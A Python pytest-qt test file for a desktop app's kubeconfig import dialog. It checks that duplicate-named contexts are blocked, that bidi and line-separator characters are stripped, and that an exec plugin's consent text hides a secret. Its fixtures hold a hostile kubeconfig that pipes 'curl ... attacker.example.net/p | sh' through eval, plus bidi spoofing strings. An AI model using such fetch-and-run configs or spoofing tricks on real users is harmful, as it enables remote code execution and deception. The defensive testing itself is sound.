"""The import dialog: two contexts of one name are listed as not importable (the user's choice
travels by name), and no text of the file reaches a list item with a bidi override or a line
break of its own (a fake "reads ~/.kube/..." line, a name that reads backwards)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from PySide6.QtCore import QObject, Qt, Signal
from PySide6.QtWidgets import QListWidgetItem
from pytestqt.qtbot import QtBot

from aiops_desktop.models.registry import KubeconfigContext
from aiops_desktop.services.clusters.kubeconfig import KubeconfigError, read_contexts
from ui.dialogs.import_kubeconfig import RUNS_ROLE, ImportKubeconfigDialog

#: what makes a line read other than it is: bidi overrides, line and paragraph separators
UNSEEN = "\u202e\u202d\u2066\u2028\u2029\x85\x1b"


class Presenter(QObject):
    """The registry presenter as the dialog uses it, reading the file for real."""

    sig_import_preview = Signal(list)
    sig_import_done = Signal(str, bool)
    sig_error = Signal(str)

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[tuple[str, list[str], dict[str, str]]] = []

    def preview_kubeconfig(self, path: str) -> None:
        try:
            self.sig_import_preview.emit(read_contexts(path))
        except KubeconfigError as exc:
            self.sig_error.emit(str(exc))

    def import_kubeconfig(self, path: str, contexts: list[str], consented: Any = None) -> None:
        self.asked.append((path, contexts, consented))


def _dialog(qtbot: QtBot, path: Path) -> tuple[ImportKubeconfigDialog, Presenter]:
    presenter = Presenter()
    dialog = ImportKubeconfigDialog(presenter, str(path))
    qtbot.addWidget(dialog)
    return dialog, presenter


def test_contexts_of_one_name_cannot_be_ticked_and_are_never_asked_for(
    qtbot: QtBot, tmp_path: Path
) -> None:
    path = tmp_path / "config"
    path.write_text("""apiVersion: v1
kind: Config
clusters:
- {name: prod, cluster: {server: 'https://api.prod.example.com:6443'}}
- {name: evil, cluster: {server: 'https://api.attacker.example.net:6443'}}
users:
- {name: u, user: {token: sha256~AAAAAAAAAAAAAAAAAAAAAAAA}}
contexts:
- {name: prod, context: {cluster: prod, user: u}}
- {name: prod, context: {cluster: evil, user: u}}
- {name: lab, context: {cluster: prod, user: u}}
""")
    dialog, presenter = _dialog(qtbot, path)
    items = [dialog.contexts.item(i) for i in range(dialog.contexts.count())]
    assert len(items) == 3
    for item in items[:2]:
        assert "cannot import" in item.text() and "2 contexts named 'prod'" in item.text()
        assert not item.flags() & Qt.ItemFlag.ItemIsEnabled
        assert item.checkState() != Qt.CheckState.Checked
        assert "attacker" not in item.text()
    assert items[2].checkState() == Qt.CheckState.Checked
    dialog._on_buttons_accepted()
    assert presenter.asked == [(str(path), ["lab"], {})]


def _shown(
    ctx: KubeconfigContext, qtbot: QtBot, tmp_path: Path
) -> tuple[ImportKubeconfigDialog, QListWidgetItem]:
    dialog, _presenter = _dialog(qtbot, tmp_path / "absent")
    dialog._on_presenter_preview([ctx])
    return dialog, dialog.contexts.item(0)


def test_no_text_of_the_file_reaches_a_list_item_unprintable(qtbot: QtBot, tmp_path: Path) -> None:
    ctx = KubeconfigContext(
        context="prod\u202e-lab",
        cluster_name="prod-lab",
        server="https://api.example.com:6443/\u2028    reads ~/.kube/ca.crt",
        auth="exec",
        runs="auth-provider oidc: idp-issuer-url https://sso.example.com\u2029x\u202e",
        files=["tokenFile /home/u/.kube/t\x85\u2066oken"],
        warnings=["context 'prod\u202e-lab' \u2028 warns"],
    )
    _dialog_kept, item = _shown(ctx, qtbot, tmp_path)
    text = item.text()
    assert not any(c in text for c in UNSEEN), repr(text)
    # the item's own lines only: the name, what it runs, the file it reads, the warning
    assert len(text.split("\n")) == 4, repr(text)
    assert text.startswith("prod-lab  →  prod-lab  (https://api.example.com:6443/     reads")
    assert "idp-issuer-url https://sso.example.com x" in text
    # what a tick consents to, and the name it is asked by, are the file's own text, which
    # the registry compares with what it reads again
    assert item.data(RUNS_ROLE) == ctx.runs
    assert item.data(Qt.ItemDataRole.UserRole) == "prod\u202e-lab"


def test_a_context_that_cannot_be_imported_shows_its_name_on_one_line(
    qtbot: QtBot, tmp_path: Path
) -> None:
    ctx = KubeconfigContext(
        context="ab\u2028c\u202e", cluster_name="ab-c", server=None, error="why\u2029not"
    )
    _dialog_kept, item = _shown(ctx, qtbot, tmp_path)
    text = item.text()
    assert text == "ab c: cannot import: why not", repr(text)


def test_the_exec_consent_of_a_hostile_file_reads_as_it_runs(qtbot: QtBot, tmp_path: Path) -> None:
    path = tmp_path / "config"
    path.write_text("""apiVersion: v1
kind: Config
clusters:
- {name: prod, cluster: {server: 'https://api.prod.example.com:6443'}}
users:
- name: a
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: sh
      args: ["-c", 'eval "$OIDC_CLIENT_SECRET"']
      env: [{name: OIDC_CLIENT_SECRET, value: "curl -fsS https://attacker.example.net/p | sh"}]
contexts:
- {name: "prod\\u202e-oidc", context: {cluster: prod, user: a}}
""")
    dialog, presenter = _dialog(qtbot, path)
    item = dialog.contexts.item(0)
    text = item.text()
    # the value stays hidden (a real plugin's client secret is passed so), said to be read
    assert "OIDC_CLIENT_SECRET=<hidden, and read by the command line" in text, text
    assert "attacker.example.net" not in text
    assert not any(c in text for c in UNSEEN), repr(text)
    assert item.checkState() == Qt.CheckState.Unchecked  # runs a command: the user's tick
    item.setCheckState(Qt.CheckState.Checked)
    dialog._on_buttons_accepted()
    [(_path, chosen, consented)] = presenter.asked
    assert chosen == ["prod\u202e-oidc"]  # the context as the file names it, for the registry
    assert consented == {"prod\u202e-oidc": read_contexts(path)[0].runs}
